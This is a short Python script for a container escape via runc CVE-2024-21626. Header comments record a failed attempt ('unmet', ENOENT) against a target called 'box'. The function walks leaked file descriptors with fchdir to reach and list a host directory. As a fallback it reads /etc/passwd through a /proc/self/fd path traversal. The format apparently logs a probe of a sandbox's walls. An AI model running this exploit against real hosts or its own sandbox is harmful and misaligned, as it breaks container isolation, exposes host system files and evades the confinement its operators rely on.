# tries: runc CVE-2024-21626: a folder of the host is still open
# wall: all but four descriptors are closed
# outcome: unmet
# got: 'ENOENT'
# against: box

import os


def attack():
    for number in range(3, 1024):
        try:
            os.fchdir(number)
            return "ESCAPED", os.listdir(".")
        except OSError:
            pass
    return open("/proc/self/fd/7/../../../etc/passwd").read()
